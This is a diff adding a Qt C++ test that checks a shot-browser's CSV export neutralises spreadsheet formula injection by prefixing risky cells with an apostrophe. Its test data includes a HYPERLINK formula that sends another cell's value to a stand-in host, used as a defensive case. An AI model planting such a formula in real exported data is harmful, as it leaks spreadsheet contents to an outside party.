@@ -563,6 +563,67 @@ private slots:
         QVERIFY(bytes.contains("\"He said \"\"cut\"\"\nthen laughed\""));
     }
 
+    // Notes such as =HYPERLINK("...?"&C2) ran as formulas in every crew
+    // member's spreadsheet (a link sending another cell away). For
+    // spreadsheets such a cell starts with an apostrophe; CSV for tools keeps
+    // every value exact.
+    void spreadsheetExportRunsNoCellAsAFormula_data()
+    {
+        QTest::addColumn<QString>("column");
+        QTest::addColumn<QVariant>("stored");
+        QTest::addColumn<QString>("forSpreadsheets");
+
+        QTest::newRow("a sum") << "notes" << QVariant("=1+1") << "'=1+1";
+        QTest::newRow("words after an equals sign")
+            << "notes" << QVariant("=good take, use this") << "'=good take, use this";
+        const QString link = QStringLiteral("=HYPERLINK(\"http://example.invalid/?\"&C2,\"Click\")");
+        QTest::newRow("a link that sends another cell away") << "notes" << QVariant(link) << "'" + link;
+        QTest::newRow("plus") << "notes" << QVariant("+1 stop over") << "'+1 stop over";
+        QTest::newRow("minus, not a number") << "takes" << QVariant("-1+1") << "'-1+1";
+        QTest::newRow("at") << "notes" << QVariant("@SUM(1+1)") << "'@SUM(1+1)";
+        QTest::newRow("tab") << "takes" << QVariant("\t=1+1") << "'\t=1+1";
+        QTest::newRow("carriage return") << "notes" << QVariant("\r=1+1") << "'\r=1+1";
+        QTest::newRow("a number after a line break is text")
+            << "notes" << QVariant("-3\n=1+1") << "'-3\n=1+1";
+        // A plain number is no formula: still read as a number.
+        QTest::newRow("negative whole number as text") << "takes" << QVariant("-3") << "-3";
+        QTest::newRow("negative decimal as text") << "takes" << QVariant("-2.5") << "-2.5";
+        QTest::newRow("negative number in a numeric column") << "quality" << QVariant(-3) << "-3";
+        QTest::newRow("equals sign inside") << "notes" << QVariant("take 2 = best") << "take 2 = best";
+    }
+
+    void spreadsheetExportRunsNoCellAsAFormula()
+    {
+        QFETCH(QString, column);
+        QFETCH(QVariant, stored);
+        QFETCH(QString, forSpreadsheets);
+        addShot(harbour, "raw/A/1.MTS", {{column, stored}});
+        Browser b = open(harbour);
+        QCOMPARE(b.model()->rowCount(), 1);
+
+        // The cell as Python's csv module reads it from the written file.
+        auto exported = [&](bool spreadsheets) -> QString {
+            ShotExport snapshot = exportOfShownShots(b.model());
+            snapshot.byteOrderMark = spreadsheets;
+            const QString path = root.filePath(spreadsheets ? "spreadsheet.csv" : "tools.csv");
+            const Csv::Result result = snapshot.write(path);
+            if (!result.ok)
+                return "not written: " + result.error;
+            QProcess python;
+            python.start("python3", {"-c",
+                                     "import csv, json, sys\n"
+                                     "with open(sys.argv[1], newline='', encoding='utf-8-sig') as f:\n"
+                                     "    rows = list(csv.reader(f, strict=True))\n"
+                                     "print(json.dumps(rows[1][rows[0].index(sys.argv[2])]))\n",
+                                     path, column});
+            if (!python.waitForFinished(30000) || python.exitCode() != 0)
+                return "not read: " + QString::fromUtf8(python.readAllStandardError());
+            return QJsonDocument::fromJson("[" + python.readAllStandardOutput() + "]").array().at(0).toString();
+        };
+        QCOMPARE(exported(true), forSpreadsheets);
+        QCOMPARE(exported(false), stored.toString());
+    }
+
     // A full disk in the middle of an export: nothing under the chosen name,
     // a file already there untouched, no temporary file left.
     void aFailedExportLeavesNoHalfFile()
